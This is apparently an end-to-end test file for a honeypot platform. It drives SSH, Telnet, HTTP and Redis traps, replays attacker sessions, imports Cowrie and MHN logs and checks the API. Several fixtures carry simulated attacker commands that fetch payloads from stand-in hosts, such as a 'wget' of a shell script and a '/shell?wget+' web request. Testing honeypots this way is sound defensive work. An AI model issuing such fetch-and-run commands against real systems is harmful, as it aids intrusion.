import { execFileSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createConnection } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Client } from 'ssh2'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { StoredEvent } from '@skep/vocabulary'
import { call, startAll, type Running } from './process.ts'

// The whole thing as a stranger meets it: started by its command, attacked by clients, read through the public API.

const data = mkdtempSync(join(tmpdir(), 'skep-e2e-'))
const from = 3000 // no port of it meets one of the interoperability tests, or the range that systems give out
let all: Running
let token: string
const api = async (path: string): Promise<Response> =>
  fetch(`${all.portal}/api/v1/${path}`, { headers: { authorization: `Bearer ${token}` } })
const events = async (query: string): Promise<StoredEvent[]> =>
  (await (await api(`events?${query}`)).text())
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as StoredEvent)
const within = async <T>(ms: number, look: () => Promise<T | undefined>): Promise<T> => {
  const end = Date.now() + ms
  for (;;) {
    const found = await look()
    if (found !== undefined) return found
    if (Date.now() > end) throw new Error(`not within ${ms} ms`)
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
}
const credentials = (): { user: string; password: string }[] =>
  (
    JSON.parse(call('sensor', 'credentials', '--data', data, '--json')) as {
      credentials: { user: string; password: string }[]
    }
  ).credentials

beforeAll(async () => {
  all = await startAll(data, from)
  token = call('token', 'create', '--role', 'operator', '--data', data).trim()
}, 120_000)
afterAll(async () => {
  await all.stop()
  rmSync(data, { recursive: true, force: true })
}, 60_000)

test('health and readiness answer on the portal’s port', async () => {
  expect((await fetch(`${all.portal}/healthz`)).status).toBe(200)
  expect(await (await fetch(`${all.portal}/readyz`)).json()).toEqual({ status: 'ready' })
})

test('an SSH log-in and a command come to the API, the recording before the event that names it', async () => {
  const [pair] = credentials()
  const client = new Client()
  await new Promise<void>((resolve, reject) => {
    client.once('ready', resolve).on('error', reject)
    client.connect({ host: '127.0.0.1', port: from + 22, username: pair?.user ?? '', password: pair?.password ?? '' })
  })
  await new Promise<void>((resolve, reject) => {
    client.exec('uname -a; wget http://198.51.100.7/e2e.sh', { pty: true }, (error, stream) => {
      if (error) return reject(error)
      stream.on('close', () => resolve()).resume()
      stream.stderr.resume()
    })
  })
  await within(10_000, async () =>
    (await events('kind=payload.seen')).find(
      (event) => event.kind === 'payload.seen' && event.data.url === 'http://198.51.100.7/e2e.sh',
    ),
  )
  client.end()
  const closed = await within(5000, async () => (await events('kind=recording.closed')).at(-1))
  const recording = closed.kind === 'recording.closed' ? closed.data.sha256 : ''
  // The bytes came before the event that names them.
  const cast = await (await api(`recordings/${recording}`)).text()
  expect(JSON.parse(cast.split('\n')[0] ?? '')).toMatchObject({ version: 2 })
})

test('Telnet, HTTP, Redis and any other port answer', async () => {
  const say = (port: number, text: string): Promise<string> =>
    new Promise((resolve, reject) => {
      const socket = createConnection({ host: '127.0.0.1', port })
      let answer = ''
      socket.on('error', reject)
      socket.on('data', (chunk: Buffer) => {
        answer += chunk.toString('latin1')
        socket.destroy()
        resolve(answer)
      })
      socket.write(text)
    })
  expect((await say(from + 23, '')).charCodeAt(0)).toBe(255)
  expect(await say(from + 80, 'GET /login HTTP/1.0\r\n\r\n')).toContain('200 OK')
  expect(await say(from + 6379, 'PING\r\n')).toBe('+PONG\r\n')
  expect(await say(from + 2301, 'what is this\r\n')).toBe('ERR unknown command\r\n')
})

test('what the replay says of its source is believed on the machine itself', async () => {
  const file = join(data, 'sessions.jsonl')
  writeFileSync(
    file,
    [
      {
        protocol: 'ssh',
        src_ip: '203.0.113.77',
        client: 'SSH-2.0-libssh2_1.6.0',
        username: 'root',
        password: 'x',
        inputs: [
          { input: 'uname', dt: 0.1 },
          { input: 'free -m', dt: 0 },
        ],
      },
      { protocol: 'telnet', src_ip: '2001:db8::99', username: 'root', password: 'x', inputs: [{ input: 'id', dt: 0 }] },
      {
        method: 'GET',
        path: '/shell?wget+http://203.0.113.1/j',
        headers: [['Host', 'h']],
        src_ip: '203.0.113.78',
        body: '',
      },
    ]
      .map((line) => JSON.stringify(line))
      .join('\n'),
  )
  const [pair] = credentials()
  const run = (to: number, more: string[]) =>
    JSON.parse(
      call(
        'replay',
        file,
        '--to',
        `127.0.0.1:${to}`,
        '--telnet',
        `127.0.0.1:${from + 23}`,
        '--password',
        `${pair?.user}:${pair?.password}`,
        '--json',
        ...more,
      ),
    ) as { done: number; commands: number }
  expect(run(from + 22, ['--limit', '2'])).toMatchObject({ done: 2, commands: 3, failed: 0 })
  const lines = await within(3000, async () => {
    const found = await events('source=203.0.113.77&kind=command.run')
    return found.length >= 2 ? found : undefined
  })
  expect(lines.map((event) => (event.kind === 'command.run' ? event.data.line : ''))).toEqual(['uname', 'free -m'])
  await within(3000, async () => (await events('source=2001:db8::99&kind=command.run'))[0])
  expect((await events('source=203.0.113.77&kind=client.hello'))[0]?.data).toMatchObject({
    ident: 'SSH-2.0-libssh2_1.6.0',
  })
}, 60_000)

describe('history', () => {
  const published = {
    sources: [
      ['72.226.28.47', 516],
      ['107.155.185.36', 93],
      ['158.69.241.18', 59],
      ['195.154.181.191', 55],
      ['51.15.190.16', 40],
    ],
    ports: [
      ['5060', 337],
      ['23', 287],
      ['445', 115],
      ['443', 102],
      ['1433', 57],
    ],
  }
  const window = 'since=2017-11-01&until=2017-12-01&limit=5'

  test('importing mhn-dekuwin24-2017 gives the ten published numbers, through the public API', async () => {
    // The tables were published when there were 2,023 records.
    const file = new URL('../packages/cli/demo/mhn-dekuwin24-2017.json.gz', import.meta.url).pathname
    const first = JSON.parse(call('import', 'mhn', file, '--limit', '2023', '--data', data, '--json')) as {
      results: { events: number }[]
    }
    expect(first.results[0]?.events).toBe(2023)
    const sources = (await (await api(`sources?${window}&sort=sessions`)).json()) as {
      rows: { source: string; sessions: number }[]
    }
    expect(sources.rows.map(({ source, sessions }) => [source, sessions])).toEqual(published.sources)
    const ports = (await (await api(`breakdown?${window}&by=port`)).json()) as {
      rows: { key: string; sessions: number }[]
    }
    expect(ports.rows.map(({ key, sessions }) => [key, sessions])).toEqual(published.ports)
    // The whole file again, and once more: only the seven records that are new are added.
    for (let i = 0; i < 2; i++) call('demo', '--data', data)
    const totals = (await (await api('totals?since=2017-11-01&until=2017-12-01')).json()) as {
      now: { sessions: number }
    }
    expect(totals.now.sessions).toBe(2030)
    const networks = (await (await api(`networks?${window}&sort=sessions`)).json()) as { rows: { asn: number }[] }
    expect(networks.rows[0]?.asn).toBe(12_271)
  }, 60_000)

  test('Cowrie logs of different versions are read, with their own times, and what is left out is told', async () => {
    const file = join(data, 'cowrie.json')
    const line = (eventid: string, more: object) =>
      JSON.stringify({
        eventid: `cowrie.${eventid}`,
        session: 's1',
        src_ip: '198.51.100.200',
        timestamp: '2018-05-06T17:44:05.866769Z',
        sensor: 'Old One',
        ...more,
      })
    writeFileSync(
      file,
      [
        line('session.connect', { src_port: 52_577, dst_port: 2222, protocol: 'ssh' }),
        line('client.version', {
          version: "b'SSH-2.0-libssh-0.6.3'",
          kexAlgs: ["b'a'"],
          encCS: ['b'],
          macCS: ['c'],
          compCS: ['none'],
        }),
        line('login.success', { username: "b'root'", password: 'admin' }),
        line('command.input', { input: 'wget http://203.0.113.200/x; \u0007' }),
        line('session.file_download', { url: 'http://203.0.113.200/x', shasum: 'a'.repeat(64) }),
        line('direct-tcpip.request', { dst_ip: 'ya.ru', dst_port: 80 }),
        line('session.params', { arch: 'x' }),
        line('session.closed', { duration: '1.5' }),
        'torn line {',
      ].join('\n'),
    )
    const answer = JSON.parse(call('import', 'cowrie', file, '--data', data, '--json')) as {
      results: { lines: number; events: number; skipped: Record<string, number> }[]
    }
    expect(answer.results[0]).toEqual({
      file,
      lines: 9,
      events: 8,
      skipped: { 'cowrie.session.params has no counterpart here': 1, 'no JSON object': 1 },
    })
    const found = await events('source=198.51.100.200&since=2018-01-01&until=2019-01-01')
    expect(found.map(({ kind }) => kind).sort()).toEqual([
      'artifact.stored',
      'auth.attempt',
      'client.hello',
      'command.run',
      'forward.request',
      'payload.seen',
      'session.close',
      'session.open',
    ])
    expect(found.find((event) => event.kind === 'session.close')?.data).toMatchObject({ duration_ms: 1500 })
    expect(found.find((event) => event.kind === 'client.hello')?.data).toMatchObject({
      ident: 'SSH-2.0-libssh-0.6.3',
      algorithms: 'a;b;c;none',
    })
    expect(found[0]).toMatchObject({ time: '2018-05-06T17:44:05.866769Z', sensor: 'old-one', provenance: 'cowrie' })
  })

  const shared = new URL('../../shared/data/', import.meta.url)
  test.runIf(existsSync(shared))(
    'real logs of every form are read (from the data beside the project)',
    async () => {
      const read = (format: string, file: string, more: string[] = []) =>
        (
          JSON.parse(call('import', format, new URL(file, shared).pathname, '--data', data, '--json', ...more)) as {
            results: { events: number; skipped: Record<string, number> }[]
          }
        ).results[0]
      expect(read('mhn', 'mhn-hmike96-2018/session.json.gz')?.events).toBe(1988)
      expect(read('cowrie', 'cowrie-kareiva-2018/cowrie.json.2018-05-06')?.events).toBeGreaterThan(200)
      expect(read('cowrie', 'cowrie-kingslayer458/cowrie.json')?.events).toBeGreaterThan(100)
      expect(
        read('heralding', 'ml-ids-uqo-2025/JSON/heralding_82k_raw.json.tar.gz', ['--limit', '500'])?.events,
      ).toBeGreaterThan(500)
      expect(read('dionaea', 'ml-ids-uqo-2025/JSON/dioneae_20k.json.tar.gz', ['--limit', '500'])?.events).toBe(500)
    },
    60_000,
  )
})

test('the fleet from the command line: an invitation, and a release put on the hub', () => {
  const { command, token: secret } = JSON.parse(call('hub', 'invite', '--data', data, '--org', 'lagoon', '--json')) as {
    command: string
    token: string
  }
  expect(command).toBe(`skep sensor join ${all.gateway.replace('https://', '')} ${secret}`)
  const folder = mkdtempSync(join(tmpdir(), 'skep-release-'))
  writeFileSync(join(folder, 'package.json'), '{"version":"9.9.9"}')
  writeFileSync(join(folder, 'skep-sensor.js'), randomBytes(4000))
  const file = join(folder, 'release.tgz')
  execFileSync('tar', ['-czf', file, '-C', folder, './package.json', './skep-sensor.js'])
  expect(call('hub', 'release', file, '--data', data)).toContain('Release 9.9.9 is on the hub')
  writeFileSync(file, 'no release')
  expect(() => call('hub', 'release', file, '--data', data)).toThrow('is no release')
  expect(() => call('hub', 'invite', '--data', folder)).toThrow('No hub is running')
  rmSync(folder, { recursive: true, force: true })
})

test('Ctrl-C loses nothing, and the next start goes on with the same identity and data', async () => {
  const before = credentials()
  const socket = createConnection({ host: '127.0.0.1', port: from + 22 })
  socket.on('error', () => {})
  socket.write('SSH-2.0-left-in-the-middle\r\n')
  await new Promise((resolve) => socket.once('data', resolve))
  expect(await all.stop()).toBe(0)
  const { sensor } = all
  all = await startAll(data, from)
  expect(all.sensor).toBe(sensor)
  expect(credentials()).toEqual(before)
  const hello = await within(5000, async () =>
    (await events('kind=client.hello')).find(
      ({ data: hi }) => 'ident' in hi && hi.ident === 'SSH-2.0-left-in-the-middle',
    ),
  )
  const closed = (await events(`session=${hello.session}`)).find((event) => event.kind === 'session.close')
  expect(closed?.data).toMatchObject({ reason: 'shutdown' })
  const ledger = (await (await api('ledger')).json()) as { made: number; missing: number; dropped: number }
  expect(ledger).toMatchObject({ missing: 0, dropped: 0 })
  expect(ledger.made).toBeGreaterThan(0)
}, 120_000)

test('what cannot be is said plainly, with an exit code that means something', async () => {
  const fails = (...args: string[]): { code: number | null; text: string } => {
    try {
      call(...args)
      return { code: 0, text: '' }
    } catch (error) {
      const { status, stderr } = error as { status: number; stderr: string }
      return { code: status, text: stderr }
    }
  }
  expect(fails('start', '--data', data, '--portal-port', '0')).toMatchObject({
    code: 1,
    text: expect.stringContaining('runs on') as string,
  })
  expect(fails('start', '--portal-port', 'x')).toMatchObject({ code: 2 })
  expect(fails('import', 'nonsense', 'x').code).toBe(2)
  expect(fails('import', 'mhn', '/nowhere/at/all').code).toBe(3)
  expect(fails('nonsense').code).toBe(2)
  const config = join(data, 'config.json')
  writeFileSync(config, '{"services":{"ssh":99999},"extra":1}')
  const bad = fails('config', 'check', config)
  expect(bad.code).toBe(2)
  expect(bad.text).toMatch(/services\.ssh/)
  expect(bad.text).toMatch(/extra/)
  writeFileSync(config, '{"services":{"ssh":2222,"telnet":"2323-2325"},"fronts":["127.0.0.1"]}')
  expect(fails('config', 'check', config).code).toBe(0)
  const other = mkdtempSync(join(tmpdir(), 'skep-busy-'))
  const busy = fails(
    'start',
    '--data',
    other,
    '--portal-port',
    '0',
    '--sensor-ports-from',
    String(from),
    '--sensor-address',
    '127.0.0.1',
    '--no-update',
  )
  expect(busy).toMatchObject({
    code: 1,
    text: expect.stringMatching(/Cannot listen on 127\.0\.0\.1 port \d+\/tcp: another program/) as string,
  })
  rmSync(other, { recursive: true, force: true })
}, 60_000)

test('a backup is brought back whole', async () => {
  await all.stop()
  const file = join(data, '..', `${data.split('/').at(-1)}.tar.gz`)
  call('backup', file, '--data', data)
  const again = mkdtempSync(join(tmpdir(), 'skep-restored-'))
  call('restore', file, '--data', again)
  const restored = await startAll(again, from)
  const answer = await fetch(`${restored.portal}/api/v1/totals?since=2017-11-01&until=2017-12-01`, {
    headers: { authorization: `Bearer ${token}` },
  })
  expect(((await answer.json()) as { now: { sessions: number } }).now.sessions).toBe(2030)
  expect(restored.sensor).toBe(all.sensor)
  expect(await restored.stop()).toBe(0)
  rmSync(again, { recursive: true, force: true })
  rmSync(file)
  all = await startAll(data, from)
}, 120_000)

test('a damaged store is told, and what to do', async () => {
  await all.stop()
  const other = mkdtempSync(join(tmpdir(), 'skep-damaged-'))
  writeFileSync(join(other, 'hub'), 'a file where a folder must be')
  expect(() => call('start', '--data', other, '--portal-port', '0', '--no-update')).toThrow(/Command failed/)
  rmSync(other, { recursive: true, force: true })
  all = await startAll(data, from)
  expect(readFileSync(join(data, 'hub', 'running.json'), 'utf8')).toContain(all.portal)
}, 60_000)
